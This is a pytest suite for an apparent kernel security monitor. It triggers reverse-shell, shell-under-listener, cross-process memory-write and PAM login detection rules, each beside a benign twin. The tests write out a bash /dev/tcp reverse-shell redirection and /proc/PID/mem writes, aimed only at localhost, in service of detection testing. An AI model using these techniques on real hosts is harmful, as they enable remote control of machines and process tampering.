# SPDX-License-Identifier: GPL-2.0
"""ksight guard: the fd patterns and logins. Reverse shells (a shell exec'd with its stdio
on a socket, a shell dup2-ing a socket onto its stdio), a shell spawned under a TCP
listener, writes into another process's memory, login records and libpam results; each
rule triggered for real, exactly once per act, beside a benign twin that must not alert.
The host's files are never changed (/var/log and /etc/pam.d are private mounts)."""
import os
import pwd
import re
import signal
import subprocess
import sys

import pytest

from conftest import Helper, Ksight, helper_path
from test_guard import guard, of

LISTENER = r'''
import socket, sys
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen(4)
print(l.getsockname()[1], flush=True)
c, _ = l.accept()
data = b""
while True:
    b = c.recv(4096)
    if not b:
        break
    data += b
print(data.decode().strip(), flush=True)
'''


def listener():
    """A TCP listener of its own process (not an ancestor of the shells): its port."""
    p = subprocess.Popen([sys.executable, "-c", LISTENER], stdout=subprocess.PIPE, text=True)
    return p, int(p.stdout.readline())


def received(p):
    out, _ = p.communicate(timeout=30)
    return out.strip()


@pytest.mark.kernels
def test_reverse_shell_at_exec_and_its_pipe_twin():
    lp, port = listener()
    sock = Helper("guardnet", "stdio", "tcp", port, "/usr/bin/bash", "-c", "echo revshell")
    pipe = Helper("guardnet", "stdio", "pipe", 0, "/usr/bin/bash", "-c", "echo twin")
    unix = Helper("guardnet", "stdio", "unix", 0, "/usr/bin/bash", "-c", "true")
    unixout = Helper("guardnet", "stdio", "unixout", 0, "/usr/bin/bash", "-c", "true")
    res = {}

    def act():
        for name, h in (("sock", sock), ("pipe", pipe), ("unix", unix), ("unixout", unixout)):
            h.go()
            res[name] = h.result()

    alerts = guard([], act)
    # the reference: what the listener received is what bash wrote on its stdout
    assert received(lp) == "revshell"
    child = {k: int(v[1]) for k, v in res.items()}
    assert all(v[2] == "0" for v in res.values()), res
    got = of(alerts, child["sock"])
    assert [(a["rule"], a["event"], a["path"], a["peer"], a["sockfds"], a["parent"],
             a["severity"]) for a in got] == [
        ("reverse-shell", "exec", "/usr/bin/bash", "127.0.0.1:%d" % port, 3, "guardnet",
         "critical")], got
    assert got[0]["message"] == ("/usr/bin/bash (%d, uid 0) runs with its stdin on a socket "
                                 "to 127.0.0.1:%d, parent guardnet" % (child["sock"], port))
    # the twin: the same shell on pipes
    assert of(alerts, child["pipe"]) == []
    # a unix socketpair: the low-severity rule only, no peer address
    got = of(alerts, child["unix"])
    assert [(a["rule"], a["peer"], a["sockfds"]) for a in got] == \
        [("shell-unix-stdio", "unix", 3)], got
    # stdout alone on a unix socket (a service's, on journald's stream): no alert
    assert of(alerts, child["unixout"]) == []
    # the helpers' own dup2s (comm guardnet, not a shell) raise nothing
    assert of(alerts, sock.pid) == [] and of(alerts, pipe.pid) == []


def strace_dups(path):
    """(pid, newfd) of each successful dup2/dup3 onto fd 0-2 strace saw."""
    dups = []
    with open(path) as f:
        for line in f:
            m = re.match(r"(\d+)\s+dup[23]\(\d+, ([0-2])(, \w+)?\)\s+= \d", line)
            if m:
                dups.append((int(m.group(1)), int(m.group(2))))
    return dups


def test_reverse_shell_dup_by_a_running_shell(tmp_path):
    lp, port = listener()
    script = "exec 3<>%s; exec 0<&3 1>&3 3>&-; echo %s"
    runs = {}

    def act():
        for name, target in (("sock", "/dev/tcp/127.0.0.1/%d" % port), ("twin", "/dev/null")):
            out = str(tmp_path / (name + ".strace"))
            subprocess.run(["strace", "-f", "-qq", "-e", "trace=dup2,dup3", "-o", out,
                            "/usr/bin/bash", "-c", script % (target, name)], check=True)
            runs[name] = strace_dups(out)

    alerts = guard([], act)
    assert received(lp) == "sock"
    # strace's view: bash moved fd 3 onto 0 and 1, in both runs; the alert is the one onto
    # stdin (where a shell reads its commands)
    assert [d[1] for d in runs["sock"]] == [0, 1] and [d[1] for d in runs["twin"]] == [0, 1]
    pid = runs["sock"][0][0]
    got = of(alerts, pid)
    assert [(a["rule"], a["event"], a["comm"], a["arg0"], a["arg1"], a["peer"])
            for a in got] == [("reverse-shell-dup", "dup", "bash", 3, 0,
                               "127.0.0.1:%d" % port)], got
    assert of(alerts, runs["twin"][0][0]) == []


def test_shell_spawned_by_a_network_service():
    svc = Helper("guardnet", "service", "listen", "/bin/sh", "-c", "true")
    twin = Helper("guardnet", "service", "bound", "/bin/sh", "-c", "true")
    res = {}

    def act():
        for name, h in (("svc", svc), ("twin", twin)):
            h.go()
            res[name] = h.result()

    alerts = guard([], act)
    got = of(alerts, int(res["svc"][1]))
    assert [(a["rule"], a["path"], a["target"], a["parent"], a["severity"]) for a in got] == \
        [("shell-from-service", "/usr/bin/dash", svc.pid, "guardnet", "high")], got
    assert got[0]["message"] == ("/usr/bin/dash (%s, uid 0) spawned under the network "
                                 "service %d, parent guardnet" % (res["svc"][1], svc.pid))
    assert of(alerts, int(res["twin"][1])) == []


def test_service_listening_before_the_start_is_found_in_proc():
    svc = Helper("guardnet", "service", "early", "/bin/sh", "-c", "true")
    # the reference: ss sees the helper listening before guard starts
    ss = subprocess.run(["ss", "-Hltnp"], capture_output=True, text=True, check=True).stdout
    assert "pid=%d," % svc.pid in ss
    res = []

    def act():
        svc.go()
        res.append(svc.result())

    alerts = guard([], act)
    got = of(alerts, int(res[0][1]))
    assert [(a["rule"], a["target"]) for a in got] == [("shell-from-service", svc.pid)], got


def test_memory_write_into_another_process_and_its_self_twin():
    other = Helper("guardnet", "memwrite", "other")
    self_ = Helper("guardnet", "memwrite", "self")
    res = {}

    def act():
        for name, h in (("other", other), ("self", self_)):
            h.go()
            res[name] = h.result()

    alerts = guard([], act)
    for name in res:
        # target PID open OK pwrite 8 vm 8 value 4343...: both writes landed
        assert res[name][4:] == ["pwrite", "8", "vm", "8", "value", "43" * 8], res
    target = int(res["other"][1])
    got = of(alerts, other.pid)
    mem = "/proc/%d/mem" % target
    assert [(a["rule"], a["event"], a["target"], a["arg1"], a["arg2"], a["path"])
            for a in got] == [
        ("memory-write", "memwrite", target, 0, 0, mem),
        ("memory-write", "memwrite", target, 1, 8, mem),
        ("memory-write", "memwrite", target, 2, 8, ""),
    ], got
    assert [a["message"] for a in got] == [
        "guardnet (%d, uid 0) wrote into the memory of process %d (%s)" % (other.pid, target, h)
        for h in ("open for writing " + mem, "pwrite " + mem, "process_vm_writev")]
    # the twin: a process writing its own memory (a JIT patching itself) is no attack
    assert of(alerts, self_.pid) == []


NS_LOGS = r'''
import os, subprocess, sys
tmp = sys.argv[1]
subprocess.run(["mount", "-t", "tmpfs", "guardtest", "/var/log"], check=True)
print("ready", flush=True)
sys.stdin.readline()
for name in ("wtmp", "btmp", "lastlog"):
    with open("/var/log/" + name, "ab") as f:
        f.write(b"x" * 384)
    with open(tmp + "/" + name, "ab") as f:   # the twins: the same names elsewhere
        f.write(b"x" * 384)
print("done", flush=True)
'''


def test_login_records_in_a_private_mount_namespace(tmp_path):
    host = sorted(os.listdir("/var/log"))
    procs = []

    def act():
        p = subprocess.Popen(["unshare", "-m", sys.executable, "-c", NS_LOGS, str(tmp_path)],
                             stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        procs.append(p)
        assert p.stdout.readline() == "ready\n"
        out, _ = p.communicate("go\n", timeout=60)
        assert p.returncode == 0 and out == "done\n"

    alerts = guard([], act)
    assert sorted(os.listdir("/var/log")) == host
    got = [a for a in of(alerts, procs[0].pid) if a["rule"] != "namespace-change"]
    assert [(a["rule"], a["event"], a["path"], a["severity"]) for a in got] == [
        ("login-record", "write", "/var/log/" + n, "low") for n in ("wtmp", "btmp", "lastlog")]
    assert not [a for a in alerts if str(tmp_path) in a["path"]]


PAM_OK = "auth sufficient pam_permit.so\nsession required pam_permit.so\n"
PAM_DENY = "auth required pam_deny.so\nsession required pam_permit.so\n"
LIBPAM = "/lib/x86_64-linux-gnu/libpam.so.0"


def pam_stacks(tmp_path):
    if not os.path.exists(LIBPAM):
        pytest.skip("libpam.so.0 is not installed")
    pamd = tmp_path / "pam.d"
    pamd.mkdir()
    (pamd / "ksight-ok").write_text(PAM_OK)
    (pamd / "ksight-deny").write_text(PAM_DENY)
    return pamd


def pam_lines(out):
    """pamlogin's lines as tuples: ("auth", rc, user, rhost, service) with libpam's items
    as bytes (None: NULL), ("session", rc)."""
    got = []
    for line in out.decode().split("\n"):
        w = line.split()
        if w and w[0] == "auth":
            # with -u a fourth name: PAM_RUSER
            got.append(("auth", int(w[1])) +
                       tuple(None if x == "-" else bytes.fromhex(x) for x in w[2:6]))
        elif w:
            got.append((w[0], int(w[1])))
    return got


def names(a):
    """An alert's login names as bytes (JSON's exact form: lone surrogates are the bytes
    that were not UTF-8), None for null."""
    return tuple(None if a[k] is None else os.fsencode(a[k])
                 for k in ("user", "rhost", "pam_service"))


def test_pam_logins_through_a_test_stack(tmp_path):
    pamd = pam_stacks(tmp_path)
    host = sorted(os.listdir("/etc/pam.d"))
    runs = {}

    def login(service, user, rhost, n):
        # /etc/pam.d is the test directory in this process's mount namespace only
        p = subprocess.run(["unshare", "-m", "sh", "-c",
                            'mount --bind "$0" /etc/pam.d && exec "$@"', str(pamd),
                            helper_path("pamlogin"), "-r", rhost, service, user, str(n)],
                           capture_output=True, check=True)
        return pam_lines(p.stdout)

    def act():
        runs["ok"] = login("ksight-ok", "alice", "192.0.2.7", 2)
        # libpam takes the service in lower case: the stack is ksight-deny
        runs["deny"] = login("KSight-Deny", "bob", "host-b.example", 3)

    k_alerts = guard([], act)
    assert sorted(os.listdir("/etc/pam.d")) == host
    # libpam's own codes and items: success twice (sessions too), PAM_AUTH_ERR (7) thrice
    alice = (b"alice", b"192.0.2.7", b"ksight-ok")
    bob = (b"bob", b"host-b.example", b"ksight-deny")
    assert runs["ok"] == [("auth", 0) + alice, ("session", 0)] * 2
    assert runs["deny"] == [("auth", 7) + bob] * 3
    pam = [a for a in k_alerts if a["comm"] == "pamlogin"]
    got = sorted((a["rule"], a["event"], a["ret"]) + names(a) for a in pam)
    assert got == sorted([("login-ok", "auth", 0) + alice] * 2 +
                         [("session-open", "session", 0) + alice] * 2 +
                         [("login-failed", "auth", -7) + bob] * 3), pam
    fail = [a for a in pam if a["rule"] == "login-failed"][0]
    assert fail["message"] == ("failed authentication of user bob via ksight-deny from "
                               "host-b.example in pamlogin (%d, uid 0), PAM error -7"
                               % fail["pid"])
    ok = [a for a in pam if a["rule"] == "session-open"][0]
    assert ok["message"] == ("session opened for user alice via ksight-ok from 192.0.2.7 by "
                             "pamlogin (%d, uid 0)" % ok["pid"])


SU_OK = "auth sufficient pam_permit.so\naccount required pam_permit.so\n" \
    "session required pam_permit.so\n"
SU_DENY = "auth required pam_deny.so\naccount required pam_permit.so\n" \
    "session required pam_permit.so\n"


def test_pam_su_a_real_login_program(tmp_path):
    """util-linux su as root to nobody, its stack (service su) a test directory bind-mounted
    on /etc/pam.d in a private mount namespace: once allowed, once denied."""
    pam_stacks(tmp_path)
    stacks = {}
    for name, text in (("ok", SU_OK), ("deny", SU_DENY)):
        stacks[name] = tmp_path / ("su-" + name)
        stacks[name].mkdir()
        (stacks[name] / "su").write_text(text)
    runs = {}

    def su(name):
        return subprocess.run(["unshare", "-m", "sh", "-c",
                               'mount --bind "$0" /etc/pam.d && exec su nobody -s /bin/sh '
                               '-c "id -un"', str(stacks[name])],
                              capture_output=True, text=True)

    def act():
        runs["ok"] = su("ok")
        runs["deny"] = su("deny")

    k_alerts = guard([], act)
    # su's own word: the shell ran as nobody; the denied one never ran it
    assert runs["ok"].returncode == 0 and runs["ok"].stdout == "nobody\n", runs["ok"]
    assert runs["deny"].returncode != 0 and "Authentication failure" in runs["deny"].stderr
    # su names the invoking user PAM_RUSER (util-linux su_main: pam_set_item of the old
    # user's pw_name): this test's own user
    me = pwd.getpwuid(os.getuid()).pw_name
    got = sorted((a["rule"], a["ret"], a["user"], a["rhost"], a["pam_service"], a["ruser"])
                 for a in k_alerts if a["comm"] == "su" and a["event"] in ("auth", "session"))
    assert got == [("login-failed", -7, "nobody", None, "su", me),
                   ("login-ok", 0, "nobody", None, "su", me),
                   ("session-open", 0, "nobody", None, "su", me)], got
    fail = [a for a in k_alerts if a["comm"] == "su" and a["rule"] == "login-failed"][0]
    assert fail["message"] == ("failed authentication of user nobody requested by %s via su "
                               "in su (%d, uid 0), PAM error -7" % (me, fail["pid"]))


def test_pam_handle_made_before_the_start_has_no_names(tmp_path):
    """A handle whose pam_start and pam_set_item ran before guard started: the logins are
    reported, their names null (not guessed)."""
    pamd = pam_stacks(tmp_path)
    h = Helper("pamlogin", "-w", "-c", str(pamd), "-r", "192.0.2.9", "ksight-ok", "frank", 1)

    def act():
        h.go()
        h.result()

    k_alerts = guard([], act)
    # libpam knew the names all along
    assert pam_lines(h.out.encode()) == [("auth", 0, b"frank", b"192.0.2.9", b"ksight-ok"),
                                         ("session", 0)]
    got = sorted((a["rule"],) + names(a) for a in of(k_alerts, h.pid))
    assert got == [("login-ok", None, None, None), ("session-open", None, None, None)], got
    assert of(k_alerts, h.pid, "login-ok")[0]["message"] == \
        "successful authentication of user ? via ? in pamlogin (%d, uid 0)" % h.pid


def test_pam_names_escaped_in_the_table(tmp_path):
    """The terminal never gets a name's control bytes: an ESC in the remote host, a tab and
    a byte that is not UTF-8 in the user, shown escaped in the alert's message."""
    pamd = pam_stacks(tmp_path)
    k = Ksight(["guard"])
    k.wait_ready()
    try:
        p = subprocess.run([helper_path("pamlogin"), "-c", str(pamd), "-r", b"x\x1b[31my",
                            "ksight-ok", b"a\tb\xff", "1"], capture_output=True, check=True)
    finally:
        assert k.stop() == 0, k.stderr
    assert pam_lines(p.stdout)[0] == ("auth", 0, b"a\tb\xff", b"x\x1b[31my", b"ksight-ok")
    got = [l for l in k.out_lines if " pamlogin " in l and "login-ok" in l]
    assert len(got) == 1, k.out_lines
    assert "\x1b" not in got[0] and "\t" not in got[0]
    assert ("user a\\tb\\xff via ksight-ok from x\\x1b[31my in pamlogin" in got[0]), got[0]


ROOT_RULE = """rules:
  - name: root-login
    event: [auth, session]
    user: root
    pam_service: 'ksight-*'
    severity: critical
    message: 'root: {login}'
"""


def test_pam_rule_on_user_and_service(tmp_path):
    """A rule file's conditions on the login's user and service: only root's logins
    through the ksight-* stacks, not alice's, not root's through another service."""
    pamd = pam_stacks(tmp_path)
    (pamd / "other").write_text(PAM_OK)
    rules = tmp_path / "root.yaml"
    rules.write_text(ROOT_RULE)
    runs = {}

    def act():
        for name, service, user in (("root", "ksight-ok", "root"), ("alice", "ksight-ok", "alice"),
                                    ("other", "other", "root"), ("denied", "ksight-deny", "root")):
            p = subprocess.run([helper_path("pamlogin"), "-c", str(pamd), "-r", "192.0.2.5",
                                service, user, "1"], capture_output=True, check=True)
            runs[name] = pam_lines(p.stdout)

    k_alerts = guard(["-r", str(rules)], act)
    assert [r[0][:2] for r in runs.values()] == [("auth", 0)] * 3 + [("auth", 7)]
    got = [(a["rule"], a["event"], a["ret"], a["user"], a["pam_service"], a["severity"])
           for a in k_alerts if a["rule"] == "root-login"]
    assert got == [("root-login", "auth", 0, "root", "ksight-ok", "critical"),
                   ("root-login", "session", 0, "root", "ksight-ok", "critical"),
                   ("root-login", "auth", -7, "root", "ksight-deny", "critical")], got
    assert k_alerts[[a["rule"] for a in k_alerts].index("root-login")]["message"] == \
        "root: user root via ksight-ok from 192.0.2.5"
    # the defaults still see all four logins
    assert len([a for a in k_alerts if a["rule"] in ("login-ok", "login-failed") and
                a["comm"] == "pamlogin"]) == 4


HOST_RULES = """rules:
  - name: from-testnet
    event: [auth, session]
    rhost: [192.0.2.0/24, '2001:db8::/32', '*.corp.example']
    ruser: 'op*'
    message: '{ruser} as {user} from {rhost}'
  - name: from-other-net
    event: [auth, session]
    rhost: 10.0.0.0/8
  - name: not-testnet
    event: auth
    pam_service: 'ksight-*'
    not: {rhost: 192.0.2.0/24}
"""

# pamlogin -r RHOST -u RUSER ksight-ok USER 1: the rules of HOST_RULES each login raises
HOST_LOGINS = [("192.0.2.7", "operator", "alice", ["from-testnet"] * 2),
               ("host1.CORP.example", "opal", "bob", ["from-testnet"] * 2 + ["not-testnet"]),
               ("192.0.2.9", "root", "carol", []),
               ("198.51.100.1", "operator", "dave", ["not-testnet"]),
               ("2001:db8::5", "operator", "erin", ["from-testnet"] * 2 + ["not-testnet"])]


@pytest.mark.kernels
def test_pam_rules_on_remote_host_and_requesting_user(tmp_path):
    """A rule file's conditions on the login's remote host (a CIDR, an IPv6 one, a host name
    glob, a CIDR in `not`) and requesting user: exactly the logins they name raise them; a
    rule whose network (10.0.0.0/8) holds none of the hosts never fires. The names are
    libpam's own (pamlogin prints its PAM_RHOST, PAM_RUSER)."""
    pamd = pam_stacks(tmp_path)
    rules = tmp_path / "hosts.yaml"
    rules.write_text(HOST_RULES)
    runs = {}

    def act():
        for rhost, ruser, user, _ in HOST_LOGINS:
            p = subprocess.run([helper_path("pamlogin"), "-c", str(pamd), "-r", rhost, "-u",
                                ruser, "ksight-ok", user, "1"], capture_output=True, check=True)
            runs[user] = (pam_lines(p.stdout), p)

    k_alerts = guard(["-r", str(rules)], act)
    for rhost, ruser, user, _ in HOST_LOGINS:
        assert runs[user][0] == [("auth", 0, user.encode(), rhost.encode(), b"ksight-ok",
                                  ruser.encode()), ("session", 0)], runs[user]
    mine = [a for a in k_alerts if a["rule"] in ("from-testnet", "from-other-net",
                                                  "not-testnet")]
    got = sorted((a["user"], a["rule"], a["event"]) for a in mine)
    want = sorted((user, r, "auth" if r == "not-testnet" or i == 0 else "session")
                  for _, _, user, rs in HOST_LOGINS for i, r in enumerate(rs))
    assert got == want, mine
    # every alert carries the login's names as libpam had them
    logins = {user: (rhost, ruser) for rhost, ruser, user, _ in HOST_LOGINS}
    assert all((a["rhost"], a["ruser"]) == logins[a["user"]] for a in mine), mine
    assert sorted(a["message"] for a in mine if a["rule"] == "from-testnet" and
                  a["event"] == "auth") == sorted(
        "%s as %s from %s" % (ruser, user, rhost) for rhost, ruser, user, rs in HOST_LOGINS
        if "from-testnet" in rs)
    # the defaults' login alerts say who asked: "requested by"
    ok = [a for a in k_alerts if a["rule"] == "login-ok" and a["user"] == "dave"]
    assert [a["message"] for a in ok] == [
        "successful authentication of user dave requested by operator via ksight-ok from "
        "198.51.100.1 in pamlogin (%d, uid 0)" % ok[0]["pid"]], ok


# a user name with a space, quotes, a backslash, a tab, UTF-8 and a byte that is not UTF-8
ODD_USER = b'al ice"\'\\\t\xc3\xa9\xff'


@pytest.mark.kernels
def test_pam_names_exact_from_confdir_prompt_and_fork(tmp_path):
    pamd = pam_stacks(tmp_path)
    runs = {}

    def act():
        for name, args in (
                ("odd", ("ksight-ok", ODD_USER, "1")),
                # no user at pam_start: pam_permit asks (pam_get_user), the answer is set
                ("asked", ("-a", "carol", "ksight-ok", "-", "1")),
                # no user, and pam_deny never asks: unknown
                ("unknown", ("ksight-deny", "-", "1")),
                # names given before a fork, the logins in the children (as sshd)
                ("fork", ("-f", "-r", "2001:db8::1", "ksight-ok", "erin", "2")),
                # longer than guard's 127 bytes: cut, and said so
                ("long", ("ksight-deny", "u" * 200, "1"))):
            p = subprocess.run([helper_path("pamlogin"), "-c", str(pamd)] + list(args),
                               capture_output=True, check=True)
            runs[name] = pam_lines(p.stdout)

    k_alerts = guard([], act)
    pam = [a for a in k_alerts if a["comm"] == "pamlogin"]
    # the reference: libpam's PAM_USER, PAM_RHOST, PAM_SERVICE after pam_authenticate
    odd = (ODD_USER, None, b"ksight-ok")
    asked = (b"carol", None, b"ksight-ok")
    unknown = (None, None, b"ksight-deny")
    erin = (b"erin", b"2001:db8::1", b"ksight-ok")
    assert runs["odd"] == [("auth", 0) + odd, ("session", 0)]
    assert runs["asked"] == [("auth", 0) + asked, ("session", 0)]
    assert runs["unknown"] == [("auth", 7) + unknown]
    assert runs["fork"] == [("auth", 0) + erin, ("session", 0)] * 2
    assert runs["long"] == [("auth", 7, b"u" * 200, None, b"ksight-deny")]
    long = (b"u" * 127, None, b"ksight-deny")
    got = sorted(((a["rule"],) + names(a) for a in pam), key=repr)
    assert got == sorted([("login-ok",) + odd, ("session-open",) + odd,
                          ("login-ok",) + asked, ("session-open",) + asked,
                          ("login-failed",) + unknown, ("login-failed",) + long] +
                         [("login-ok",) + erin, ("session-open",) + erin] * 2, key=repr), pam
    # the fork's logins: two children, one auth and one session each
    forked = [a for a in pam if a["user"] == "erin"]
    assert len({a["pid"] for a in forked}) == 2
    assert [a.get("names_cut") for a in pam] == \
        [True if a["user"] == "u" * 127 else None for a in pam]
    unk = [a for a in pam if a["rule"] == "login-failed" and a["user"] is None][0]
    assert unk["user"] is None and unk["rhost"] is None
    assert unk["message"] == ("failed authentication of user ? via ksight-deny in pamlogin "
                              "(%d, uid 0), PAM error -7" % unk["pid"])


def flood_while_stopped(k, n, tmp_path):
    """Ksight @k stopped (SIGSTOP: its reader reads nothing) while a fork storm fills the
    shared ring with exec and exit records and a helper then writes @n times into a
    child's /proc/PID/mem; then continued. (the helper's pid, its words)."""
    (tmp_path / "f").write_text("")
    storm = Helper("forkstorm", "-x", 1, str(tmp_path), 300)
    mem = Helper("guardnet", "memloop", n)
    os.kill(k.proc.pid, signal.SIGSTOP)
    try:
        storm.go()
        storm.result()
        mem.go()
        words = mem.result()
    finally:
        os.kill(k.proc.pid, signal.SIGCONT)
    return mem.pid, words


def stalled_flood(args, n, tmp_path):
    """`ksight guard --json ARGS` through flood_while_stopped(), then stopped.
    (ksight, helper's pid, helper's words)."""
    k = Ksight(["guard", "--json", "--ringbuf-size", "4096"] + list(args))
    k.wait_ready()
    pid, words = flood_while_stopped(k, n, tmp_path)
    k.rc = k.stop()
    return k, pid, words


def test_flood_security_records_come_through_the_reserve(tmp_path):
    n = 400
    k, pid, words = stalled_flood([], n, tmp_path)
    assert k.rc == 0, k.stderr
    assert words == ["target", words[1], "pwrites", str(n)]
    st = k.stats()
    types = st["types"]
    # the shared ring (4 KiB, its reader stopped) lost exec/exit records and guard's own
    assert types["proc_exec"]["lost"] > 0 and types["guard"]["lost"] > 0, st
    got = of(k.records("alert"), pid, "memory-write")
    # every write alerted: the open and the n pwrites, none missing
    assert len(got) == 1 + n and sum(a["arg1"] == 1 for a in got) == n
    assert all(a["target"] == int(words[1]) for a in got)
    rescued = [l for l in k.err_lines if "came through guard's reserve" in l]
    assert rescued and int(rescued[-1].split()[2]) >= types["guard"]["lost"], k.stderr
    assert not [a for a in k.records("alert") if a["rule"] == "guard-records-lost"]


def test_lost_security_records_alert_and_fail_the_exit(tmp_path):
    n = 400
    # a reserve of one page: most of the stalled writes find no room anywhere
    k, pid, words = stalled_flood(["--reserve-size", "4096"], n, tmp_path)
    assert words[3] == str(n)
    assert k.rc == 1, k.stderr
    lost = [a for a in k.records("alert") if a["rule"] == "guard-records-lost"]
    got = of(k.records("alert"), pid, "memory-write")
    assert lost and lost[0]["severity"] == "critical"
    # what was lost is what is missing (other guard records of the host may be lost too)
    assert len(got) < 1 + n and sum(a["lost"] for a in lost) >= 1 + n - len(got), (len(got), lost)
    assert "security records lost" in k.stderr
